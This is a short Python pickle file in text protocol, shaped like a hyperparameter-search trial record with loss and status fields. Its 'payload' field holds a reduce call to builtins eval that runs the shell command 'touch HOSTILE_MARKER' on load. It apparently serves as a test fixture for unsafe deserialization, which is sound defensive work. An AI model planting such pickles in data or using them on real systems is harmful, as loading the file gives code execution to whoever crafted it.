(l(dVresult
(dVloss
F1.0
sVstatus
Vok
sVpayload
c__builtin__
eval
(V__import__('os').system('touch HOSTILE_MARKER')
tRssVmisc
(dVtid
I0
sVvals
(dssa.